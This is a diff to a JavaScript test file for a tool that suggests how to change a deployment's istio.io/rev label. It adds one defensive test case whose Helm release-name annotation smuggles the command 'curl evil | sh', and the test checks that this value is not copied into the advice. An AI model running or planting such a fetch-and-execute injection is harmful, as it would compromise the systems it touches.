@@ -43,6 +43,11 @@ describe('the one value that makes a template choose another revision, where it 
       'Argo CD keeps it: set the label istio.io/rev of its pod template to 1-31-0 in Git',
     ],
     [
+      'a release that is no name is none: the command is copied',
+      { annotations: { 'meta.helm.sh/release-name': 'web; curl evil | sh' } },
+      'Change the label istio.io/rev of its template to 1-31-0: kubectl edit deployment ingress -n edge',
+    ],
+    [
       'by hand',
       {},
       'Change the label istio.io/rev of its template to 1-31-0: kubectl edit deployment ingress -n edge',
